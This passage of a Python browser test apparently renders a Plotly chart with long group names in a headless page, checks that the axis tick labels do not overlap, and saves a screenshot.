        f'<!doctype html><meta charset="utf-8"><script src="{assets}"></script><div style="width: 900px">{chart}</div>',
        encoding="utf-8",
    )
    page = watched.page
    page.set_viewport_size({"width": 1400, "height": 1000})
    page.goto(demo_site.served.at("long-ticks.html"), wait_until="load")
    page.locator(".js-plotly-plot").first.wait_for(state="attached")
    axes = page.evaluate(_TICK_BOXES)
    assert axes and all(len(boxes) == len(names) for boxes in axes if boxes)
    assert not _overlapping(axes), _overlapping(axes)
    page.screenshot(path=_screenshots_dir() / "long-group-names.png", full_page=True)
